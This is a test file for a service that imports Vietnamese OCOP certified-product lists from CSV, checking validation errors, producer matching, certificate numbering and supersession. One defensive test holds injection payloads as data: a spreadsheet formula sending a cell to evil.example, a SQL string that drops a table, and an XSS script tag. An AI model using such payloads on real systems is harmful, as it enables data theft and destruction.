/** certified-products imports through the service, on a fresh database with a fixed clock. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import pg from 'pg';
import { freshDeps, testDbInfo, type TestDeps } from '../helpers/db';
import { createTestUser, systemCtx } from '../helpers/users';
import { makeTaxCode } from '../../src/domain/tax-code';
import type { Ctx } from '../../src/context';
import { formatOutcome, runImport, type ImportOutcome } from '../../src/modules/imports/import.service';
import { counts, csv, failed, inEnglish, ok, query, rowErrors } from './fixtures/db';

const HEADER = 'product_name,product_set,producer_name,producer_kind,tax_code,commune_code,address,stars,decision_number,decision_date,certificate_number,potential_five_star';
const TAX_A = makeTaxCode(38_000_001);
const TAX_B = makeTaxCode(38_000_002);

const THANH_HOA_FILE = csv([
  HEADER,
  `Mật ong hoa rừng Mường Lát,"Mật ong, mật khác và nông sản thực phẩm khác",Hợp tác xã Mật ong Mường Lát,hợp tác xã,${TAX_A},14845,Bản Pù Toong,4,1234/QĐ-UBND,15/08/2025,,có`,
  `Nem chua Hạc Thành,8,Công ty TNHH Nem chua Hạc Thành,doanh nghiệp,${TAX_B},14797,Số 18 Tống Duy Tân,3,1234/QĐ-UBND,15/08/2025,TH-2025-001,không`,
  `Chả tôm Hạc Thành,8,Công ty TNHH Nem chua Hạc Thành,Doanh nghiệp,${TAX_B},14797,,5,1234/QĐ-UBND,2025-08-15,,`,
  'Chè lam Phủ Quảng,"CHE BIEN TU GAO, NGU COC",Hộ kinh doanh Lê Thị Hoa,hộ kinh doanh,,14758,,3,1234/QĐ-UBND,15/08/2025,,không',
]);

let deps: TestDeps;
let admin: Ctx;

const file = (data: Buffer, name = 'ocop-thanh-hoa.csv') => ({ name, data });

beforeAll(async () => {
  deps = await freshDeps({ clock: () => new Date('2025-12-01T03:00:00Z') });
  admin = inEnglish(systemCtx(deps));
});
afterAll(() => deps.cleanup());

describe('a Thanh Hóa certified-products list', () => {
  let first: Extract<ImportOutcome, { ok: true }>;

  it('creates producers, products, one decision and certificates valid 36 months', async () => {
    const officer = await createTestUser(deps, { role: 'province_officer', areaCode: '38' });
    first = ok(await runImport(inEnglish(officer.ctx), 'certified-products', file(THANH_HOA_FILE)));
    expect(first.rows).toBe(4);
    expect(first.summary).toMatchObject({
      rows: 4, producersCreated: 3, producersMatched: 0, productsCreated: 4, decisionsCreated: 1,
      certificatesCreated: 4, numbersGenerated: 3, certificatesSuperseded: 0, expired: 0,
    });

    const decisions = await query<{ number: string; decision_date: string; area_code: string; level: string; source: string }>(deps,
      sql`select number, decision_date::text, area_code, level, source from decisions`);
    expect(decisions).toEqual([{ number: '1234/QĐ-UBND', decision_date: '2025-08-15', area_code: '38', level: 'province', source: 'import' }]);

    const certs = await query<{ number: string; product: string; stars: number; issued_on: string; expires_on: string; potential_five_star: boolean; state: string; province_code: string; status: string }>(deps, sql`
      select c.number, p.name as product, c.stars, c.issued_on::text, c.expires_on::text, c.potential_five_star, c.state, c.province_code, p.status
      from certificates c join products p on p.id = c.product_id order by c.number`);
    expect(certs).toEqual([
      { number: 'OCOP-38-2025-00001', product: 'Mật ong hoa rừng Mường Lát', stars: 4, issued_on: '2025-08-15', expires_on: '2028-08-15', potential_five_star: true, state: 'active', province_code: '38', status: 'certified' },
      { number: 'OCOP-38-2025-00002', product: 'Chả tôm Hạc Thành', stars: 5, issued_on: '2025-08-15', expires_on: '2028-08-15', potential_five_star: false, state: 'active', province_code: '38', status: 'certified' },
      { number: 'OCOP-38-2025-00003', product: 'Chè lam Phủ Quảng', stars: 3, issued_on: '2025-08-15', expires_on: '2028-08-15', potential_five_star: false, state: 'active', province_code: '38', status: 'certified' },
      { number: 'TH-2025-001', product: 'Nem chua Hạc Thành', stars: 3, issued_on: '2025-08-15', expires_on: '2028-08-15', potential_five_star: false, state: 'active', province_code: '38', status: 'certified' },
    ]);

    const producers = await query<{ name: string; kind: string; tax_code: string | null; commune_code: string; province_code: string }>(deps,
      sql`select name, kind, tax_code, commune_code, province_code from producers order by kind`);
    expect(producers).toEqual([
      { name: 'Hợp tác xã Mật ong Mường Lát', kind: 'cooperative', tax_code: TAX_A, commune_code: '14845', province_code: '38' },
      { name: 'Công ty TNHH Nem chua Hạc Thành', kind: 'enterprise', tax_code: TAX_B, commune_code: '14797', province_code: '38' },
      { name: 'Hộ kinh doanh Lê Thị Hoa', kind: 'household', tax_code: null, commune_code: '14758', province_code: '38' },
    ]);
    const sets = await query<{ name: string; product_set_code: string; classification: string }>(deps,
      sql`select name, product_set_code, classification from products`);
    expect(sets.map((s) => [s.name, s.product_set_code, s.classification]).sort()).toEqual([
      ['Chả tôm Hạc Thành', '8', '148-2023'], ['Chè lam Phủ Quảng', '6', '148-2023'],
      ['Mật ong hoa rừng Mường Lát', '4', '148-2023'], ['Nem chua Hạc Thành', '8', '148-2023'],
    ].sort());
  });

  it('records the job and one audit row with the summary', async () => {
    const [job] = await query<{ status: string; total_rows: number; processed_rows: number; kind: string; file_name: string; summary: Record<string, number> }>(deps,
      sql`select status, total_rows, processed_rows, kind, file_name, summary from import_jobs where id = ${first.jobId}`);
    expect(job).toMatchObject({ status: 'succeeded', total_rows: 4, processed_rows: 4, kind: 'certified-products', file_name: 'ocop-thanh-hoa.csv' });
    expect(job!.summary).toEqual(first.summary);
    const audit = await query<{ action: string; entity_type: string; entity_id: string; province_code: string; after: { summary: Record<string, number> } }>(deps,
      sql`select action, entity_type, entity_id, province_code, after from audit_log where action like 'import.%'`);
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ action: 'import.certified-products', entity_type: 'import_job', entity_id: first.jobId, province_code: '38' });
    expect(audit[0]!.after.summary).toEqual(first.summary);
  });

  it('re-importing the same file reports duplicate certificates and writes nothing', async () => {
    const before = await counts(deps);
    const again = failed(await runImport(admin, 'certified-products', file(THANH_HOA_FILE)));
    expect(rowErrors(again.errors, 3)).toEqual(['certificate_number: certificate number TH-2025-001 already exists']);
    for (const row of [2, 4, 5]) {
      expect(rowErrors(again.errors, row)).toEqual(['decision_date: this product already has a certificate issued on 2025-08-15']);
    }
    expect(await counts(deps)).toEqual(before);
    const [job] = await query<{ status: string; errors: unknown[] }>(deps, sql`select status, errors from import_jobs where id = ${again.jobId}`);
    expect(job!.status).toBe('failed');
    expect(job!.errors).toHaveLength(4);
  });
});

describe('bad rows', () => {
  it('reports every bad row with field and reason, and writes nothing', async () => {
    const badCheck = makeTaxCode(777).slice(0, 9) + String((Number(makeTaxCode(777).charAt(9)) + 1) % 10);
    const data = csv([
      HEADER,
      `Bánh gai Tứ Trụ,6,Cơ sở Bánh gai Tứ Trụ,hộ kinh doanh,,14758,,3,55/QĐ-UBND,01/09/2025,TH-X-1,không`,
      `,6,Cơ sở A,hộ kinh doanh,,14758,,3,55/QĐ-UBND,01/09/2025,,`,
      `SP 4,6,Cơ sở B,hộ kinh doanh,,99999,,3,55/QĐ-UBND,01/09/2025,,`,
      `SP 5,6,Công ty C,doanh nghiệp,${badCheck},14758,,3,55/QĐ-UBND,01/09/2025,,`,
      `SP 6,6,Công ty D,doanh nghiệp,12345,14758,,3,55/QĐ-UBND,01/09/2025,,`,
      `SP 7,Bánh kẹo vũ trụ,Cơ sở E,hộ kinh doanh,,14758,,3,55/QĐ-UBND,01/09/2025,,`,
      `SP 8,6,Cơ sở F,hộ kinh doanh,,14758,,6,55/QĐ-UBND,01/09/2025,,`,
      `SP 9,6,Cơ sở G,hộ kinh doanh,,14758,,2,55/QĐ-UBND,01/09/2025,,`,
      `SP 10,6,Cơ sở H,hộ kinh doanh,,14758,,3,55/QĐ-UBND,31/02/2025,,`,
      `SP 11,6,Cơ sở I,hộ kinh doanh,,14758,,3,55/QĐ-UBND,2030-01-01,,`,
      `SP 12,6,Cơ sở J,hộ kinh doanh,,14758,,3,55/QĐ-UBND,01/09/2025,,có`,
      `SP 13,6,Cơ sở K,nông dân,,14758,,3,55/QĐ-UBND,01/09/2025,,`,
      `Bánh gai Tứ Trụ,6,Cơ sở Bánh gai Tứ Trụ,hộ kinh doanh,,14758,,4,55/QĐ-UBND,01/09/2025,,`,
      `SP 15,6,Cơ sở L,hộ kinh doanh,,14758,,3,55/QĐ-UBND,01/09/2025,th-x-1,`,
      `SP 16,6,Cơ sở M,hộ kinh doanh,,14758,,3,,01/09/2025,,`,
      `SP 17,6,Cơ sở N,hộ kinh doanh,,14758,,4,55/QĐ-UBND,01/09/2025,,có lẽ`,
      `SP 18,6,Cơ sở O,hộ kinh doanh,,01,,3,55/QĐ-UBND,01/09/2025,,`,
    ]);
    const before = await counts(deps);
    const o = failed(await runImport(admin, 'certified-products', file(data)));
    expect(o.rows).toBe(17);
    const by = (row: number) => rowErrors(o.errors, row);
    expect(by(2)).toEqual([]);
    expect(by(3)).toEqual(['product_name: a required value is missing']);
    expect(by(4)).toEqual(['commune_code: no commune with code "99999"']);
    expect(by(5)).toEqual(['tax_code: the tax code check digit does not match']);
    expect(by(6)).toEqual(['tax_code: a tax code has 10 digits or the form NNNNNNNNNN-NNN']);
    expect(by(7)).toEqual(['product_set: no product set "Bánh kẹo vũ trụ" in classification 148-2023']);
    expect(by(8)).toEqual(['stars: stars must be 3, 4 or 5']);
    expect(by(9)).toEqual(['stars: stars must be 3, 4 or 5']);
    expect(by(10)).toEqual(['decision_date: not a date; use YYYY-MM-DD or dd/mm/yyyy']);
    expect(by(11)).toEqual(['decision_date: the date is in the future']);
    expect(by(12)).toEqual(['potential_five_star: only 4-star products can be proposed as potential five-star']);
    expect(by(13)).toEqual(['producer_kind: unknown producer kind; use enterprise, cooperative, cooperative_group or household']);
    expect(by(14)).toEqual(['product_name: duplicate of row 2']);
    expect(by(15)).toEqual(['certificate_number: certificate number also used in row 2']);
    expect(by(16)).toEqual(['decision_number: a required value is missing']);
    expect(by(17)).toEqual(['potential_five_star: use yes / no (có / không)']);
    expect(by(18)).toEqual(['commune_code: no commune with code "01"']);
    expect(o.errors.map((e) => e.row)).toEqual([...o.errors.map((e) => e.row)].sort((a, b) => a - b));
    expect(await counts(deps)).toEqual(before);
  });

  it('stores formula payloads and injection strings as plain text', async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
      "Robert'); DROP TABLE products;--",
      '<script>alert("xss")</script> & <b>đậm</b>',
    ];
    const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const data = csv([
      HEADER,
      ...payloads.map((p, i) => `${q(p)},6,Cơ sở thử ${i},hộ kinh doanh,,14758,${q(p)},3,77/QĐ-UBND,01/10/2025,,`),
    ]);
    ok(await runImport(admin, 'certified-products', file(data)));
    const stored = await query<{ product: string; address: string }>(deps, sql`
      select p.name as product, pr.address from products p join producers pr on pr.id = p.producer_id
      where pr.name like 'Cơ sở thử %' order by pr.name`);
    expect(stored).toEqual(payloads.map((p) => ({ product: p, address: p })));
    const tables = await query<{ n: number }>(deps, sql`select count(*)::int as n from information_schema.tables where table_name = 'products'`);
    expect(tables[0]!.n).toBe(1);
  });
});

describe('area scope', () => {
  it('a province officer gets a row error for a row in another province, and nothing is written', async () => {
    const officer = await createTestUser(deps, { role: 'province_officer', areaCode: '38' });
    const data = csv([
      HEADER,
      'Bánh cuốn Thanh Hóa,6,Cơ sở Bánh cuốn,hộ kinh doanh,,14758,,3,99/QĐ-UBND,01/09/2025,,',
      'Cốm làng Vòng,6,Cơ sở Cốm Vòng,hộ kinh doanh,,00070,,4,99/QĐ-UBND,01/09/2025,,',
    ]);
    const before = await counts(deps);
    const o = failed(await runImport(inEnglish(officer.ctx), 'certified-products', file(data)));
    expect(o.errors).toEqual([{ row: 3, field: 'commune_code', message: 'outside your area' }]);
    expect(await counts(deps)).toEqual(before);
  });

  it('a tax code that belongs to a producer in another province is outside the officer area', async () => {
    const tax = makeTaxCode(1_000_123);
    ok(await runImport(admin, 'certified-products', file(csv([
      HEADER, `Trà sen Tây Hồ,11,Công ty Trà Tây Hồ,doanh nghiệp,${tax},00070,,4,12/QĐ-UBND,01/06/2025,,`,
    ]))));
    const officer = await createTestUser(deps, { role: 'province_officer', areaCode: '38' });
    const o = failed(await runImport(inEnglish(officer.ctx), 'certified-products', file(csv([
      HEADER, `Trà sen mới,11,Công ty Trà Tây Hồ,doanh nghiệp,${tax},14758,,4,13/QĐ-UBND,01/07/2025,,`,
    ]))));
    expect(o.errors).toEqual([{ row: 2, field: 'tax_code', message: 'outside your area' }]);
  });
});

describe('matching and the certificate timeline', () => {
  it('matches producers by name + commune, fills a missing tax code, and restores leading zeros', async () => {
    ok(await runImport(admin, 'certified-products', file(csv([
      HEADER, 'Giò lụa Ước Lễ,8,Hộ kinh doanh Nguyễn Văn Bình,hộ kinh doanh,,70,,3,20/QĐ-UBND,2025-01-10,,',
    ]))));
    const tax = makeTaxCode(2_000_456);
    const o = ok(await runImport(admin, 'certified-products', file(csv([
      HEADER, `Chả quế Ước Lễ,8,HỘ KINH DOANH NGUYEN VAN BINH,hộ kinh doanh,${tax},00070,,4,21/QĐ-UBND,2025-02-10,,`,
    ]))));
    expect(o.summary).toMatchObject({ producersCreated: 0, producersMatched: 1, producersUpdated: 1, productsCreated: 1 });
    const rows = await query<{ tax_code: string; n: number }>(deps, sql`
      select p.tax_code, (select count(*)::int from products where producer_id = p.id) as n
      from producers p where p.commune_code = '00070' and p.name = 'Hộ kinh doanh Nguyễn Văn Bình'`);
    expect(rows).toEqual([{ tax_code: tax, n: 2 }]);
  });

  it('supersedes the older certificate of a product on the new issue date; old lists arrive expired', async () => {
    const tax = makeTaxCode(3_000_789);
    const row = (stars: number, num: string, date: string) =>
      `Nước mắm Ba Làng,9,Hợp tác xã Ba Làng,hợp tác xã,${tax},14812,,${stars},${num},${date},,`;
    const older = ok(await runImport(admin, 'certified-products', file(csv([HEADER, row(3, '300/QĐ-UBND', '2023-03-01')]))));
    expect(older.summary.expired).toBe(0);
    const newer = ok(await runImport(admin, 'certified-products', file(csv([HEADER, row(4, '400/QĐ-UBND', '2025-05-10')]))));
    expect(newer.summary).toMatchObject({ productsMatched: 1, productsCreated: 0, certificatesSuperseded: 1 });
    const certs = await query<{ stars: number; state: string; superseded_on: string | null; status: string }>(deps, sql`
      select c.stars, c.state, c.superseded_on::text, p.status from certificates c join products p on p.id = c.product_id
      where p.name = 'Nước mắm Ba Làng' order by c.issued_on`);
    expect(certs).toEqual([
      { stars: 3, state: 'superseded', superseded_on: '2025-05-10', status: 'certified' },
      { stars: 4, state: 'active', superseded_on: null, status: 'certified' },
    ]);

    const expired = ok(await runImport(admin, 'certified-products', file(csv([
      HEADER, 'Bánh răng bừa,6,Cơ sở Bánh răng bừa,hộ kinh doanh,,14818,,3,1/QĐ-UBND,2020-01-10,,',
    ]))));
    expect(expired.summary.expired).toBe(1);
    const [p] = await query<{ status: string; expires_on: string }>(deps, sql`
      select p.status, c.expires_on::text from products p join certificates c on c.product_id = p.id where p.name = 'Bánh răng bừa'`);
    expect(p).toEqual({ status: 'expired', expires_on: '2023-01-10' });
  });

  it('a history in one file chains: each older certificate superseded by the next', async () => {
    const data = csv([
      HEADER,
      'Rượu cần Mường,14,Hợp tác xã Rượu cần,hợp tác xã,,14845,,4,8/QĐ-UBND,2025-06-01,,',
      'Rượu cần Mường,14,Hợp tác xã Rượu cần,hợp tác xã,,14845,,3,7/QĐ-UBND,2023-06-01,,',
    ]);
    const o = ok(await runImport(admin, 'certified-products', file(data)));
    expect(o.summary).toMatchObject({ productsCreated: 1, certificatesCreated: 2, certificatesSuperseded: 1, decisionsCreated: 2 });
    const certs = await query<{ state: string; superseded_on: string | null }>(deps, sql`
      select c.state, c.superseded_on::text from certificates c join products p on p.id = c.product_id
      where p.name = 'Rượu cần Mường' order by c.issued_on`);
    expect(certs).toEqual([{ state: 'superseded', superseded_on: '2025-06-01' }, { state: 'active', superseded_on: null }]);
  });

  it.runIf(testDbInfo().engine === 'postgres')('waits for an approval numbering the same province and year, then continues after its number', async () => {
    // Another process approving a decision holds the numbering lock (decision.repository.ts
    // lockNumbering) and takes the next number while this import is being checked.
    const other = new pg.Client({ connectionString: deps.env.DATABASE_URL });
    await other.connect();
    try {
      const [max] = await query<{ n: number }>(deps, sql`
        select max(right(number, 5)::int)::int as n from certificates where number like 'OCOP-38-2025-%'`);
      const next = (k: number) => `OCOP-38-2025-${String(max!.n + k).padStart(5, '0')}`;
      await other.query('begin');
      await other.query(`select pg_advisory_xact_lock(hashtext('ocop-certificate-number-38-2025'))`);
      const importing = runImport(admin, 'certified-products', file(csv([HEADER,
        'Mắm cáy Hà Trung,9,Cơ sở Mắm cáy,hộ kinh doanh,,14818,,3,5679/QĐ-UBND,21/08/2025,,',
        'Mắm tôm Hà Trung,9,Cơ sở Mắm cáy,hộ kinh doanh,,14818,,3,5679/QĐ-UBND,21/08/2025,,'])));
      // The import has checked the file and waits for the lock before writing anything.
      for (let i = 0; i < 200; i++) {
        const { rows: [w] } = await other.query<{ n: number }>(`select count(*)::int as n from pg_locks where locktype = 'advisory' and not granted`);
        if (w!.n > 0) break;
        await new Promise((r) => setTimeout(r, 20));
      }
      const { rows: cols } = await other.query<{ c: string }>(`select column_name as c from information_schema.columns
        where table_schema = current_schema() and table_name = 'certificates' and column_name not in ('id', 'number')`);
      const list = cols.map((c) => `"${c.c}"`).join(', ');
      await other.query(`insert into certificates (id, number, ${list}) select gen_random_uuid(), $1, ${list} from certificates where number = $2`, [next(1), next(0)]);
      await other.query('commit');
      const o = ok(await importing);
      expect(o.summary).toMatchObject({ certificatesCreated: 2, numbersGenerated: 2 });
      const made = await query<{ number: string }>(deps, sql`
        select c.number from certificates c join products p on p.id = c.product_id where p.name in ('Mắm cáy Hà Trung', 'Mắm tôm Hà Trung') order by c.number`);
      expect(made.map((c) => c.number)).toEqual([next(2), next(3)]);
    } finally {
      await other.end();
    }
  });

  it('reuses a decision already in the database and continues generated numbers', async () => {
    ok(await runImport(admin, 'certified-products', file(csv([HEADER, 'Mắm rươi Hà Trung,9,Cơ sở Mắm rươi,hộ kinh doanh,,14818,,3,5678/QĐ-UBND,20/08/2025,,']))));
    const data = csv([HEADER, 'Mắm tép Hà Trung,9,Cơ sở Mắm tép,hộ kinh doanh,,14818,,3,5678/QĐ-UBND,20/08/2025,,']);
    const [max] = await query<{ n: number }>(deps, sql`
      select max(right(number, 5)::int)::int as n from certificates where number like 'OCOP-38-2025-%'`);
    const o = ok(await runImport(admin, 'certified-products', file(data)));
    expect(o.summary).toMatchObject({ decisionsCreated: 0, decisionsMatched: 1, numbersGenerated: 1 });
    const [c] = await query<{ number: string }>(deps, sql`
      select c.number from certificates c join products p on p.id = c.product_id where p.name = 'Mắm tép Hà Trung'`);
    expect(max!.n).toBeGreaterThanOrEqual(1);
    expect(c!.number).toBe(`OCOP-38-2025-${String(max!.n + 1).padStart(5, '0')}`);
  });
});

describe('formatOutcome', () => {
  it('prints counts, or each row error as "row N, field F: message"', () => {
    const good = formatOutcome({ ok: true, jobId: 'j1', kind: 'producers', rows: 2, summary: { rows: 2, created: 2, updated: 0 } });
    expect(good).toContain('Imported 2 rows of producers (job j1).');
    expect(good).toContain('created: 2');
    const bad = formatOutcome({
      ok: false, jobId: 'j2', kind: 'certified-products', rows: 3,
      errors: [{ row: 5, field: 'tax_code', message: 'bad check digit' }, { row: 0, field: 'file', message: 'too many errors' }],
    });
    expect(bad).toContain('2 errors in 2 rows; nothing was imported.');
    expect(bad).toContain('row 5, field tax_code: bad check digit');
  });
});
